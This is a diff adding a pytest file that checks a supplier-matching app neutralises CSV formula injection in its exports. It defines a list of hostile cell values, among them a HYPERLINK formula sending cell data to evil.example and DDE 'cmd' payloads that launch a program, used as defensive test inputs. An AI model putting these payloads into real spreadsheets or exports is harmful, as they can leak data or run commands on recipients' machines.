@@ -1,0 +1,77 @@
+"""Issue 16, round two of the attack: exports, page sessions, imports and uploads (items 4, 5,
+10 and 14). Each test failed before its fix."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+import sqlalchemy as sa
+
+from matchmaker.extensions import db
+from matchmaker.models import Supplier
+from tests.api.test_shortlists import CHAIRS, shortlist
+from tests.api.test_tenders import tender_payload
+from tests.pages.conftest import Browser
+
+# --------------------------------------------------------------------------- 4: CSV injection
+
+HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")", "+31 cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_a_cell_that_would_start_a_formula_is_quoted_and_numbers_stay_numbers():
+    from matchmaker.interop.spreadsheet import safe_cell
+
+    for text in HOSTILE:
+        assert safe_cell(text) == "'" + text
+    assert safe_cell("Stoelenkliniek") == "Stoelenkliniek"
+    assert safe_cell("Kringloop =wel") == "Kringloop =wel"
+    assert safe_cell(-3) == -3 and safe_cell(-0.25) == -0.25
+    assert safe_cell(None) == ""
+
+
+@pytest.fixture
+def hostile_market(app, register):
+    """Suppliers whose names and municipalities (as an import or staff could store them) start
+    formulas; they rank on the tender below."""
+    ids = []
+    for number, text in enumerate(HOSTILE):
+        ids.append(register(**{**CHAIRS, "kvk_number": f"8200000{number}",
+                               "name": f"Stoelen {number}"}).id)
+    with app.app_context():
+        for supplier_id, text in zip(ids, HOSTILE):
+            supplier = db.session.get(Supplier, supplier_id)
+            supplier.name, supplier.municipality = text, text
+        db.session.commit()
+    return ids
+
+
+def _cells(response) -> list[dict]:
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
+
+
+@pytest.mark.parametrize("route", ["api", "page"])
+def test_every_csv_export_neutralises_hostile_names_and_municipalities(
+        client, make_token, hostile_market, route):
+    buyer = make_token("buyer", buyer="Waterbedrijf Amstelland")
+    tender = client.post("/api/tenders", json=tender_payload(
+        criteria=[{"kind": "circular_strategy", "mode": "must", "params": {"at_least": "refurbish"}}]),
+        headers=buyer).get_json()
+    result = shortlist(client, buyer, tender["id"])
+    assert len(result["items"]) == len(HOSTILE)
+    if route == "api":
+        response = client.get(f"/api/shortlists/{result['id']}/export.csv", headers=buyer)
+    else:
+        browser = Browser(client)
+        browser.sign_in(buyer)
+        response = browser.get(f"/buyer/shortlists/{result['id']}/export.csv")
+
+    rows = _cells(response)
+    assert sorted(row["supplier_name"] for row in rows) == sorted("'" + t for t in HOSTILE)
+    assert sorted(row["municipality"] for row in rows) == sorted("'" + t for t in HOSTILE)
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+        assert float(row["score"]) >= 0
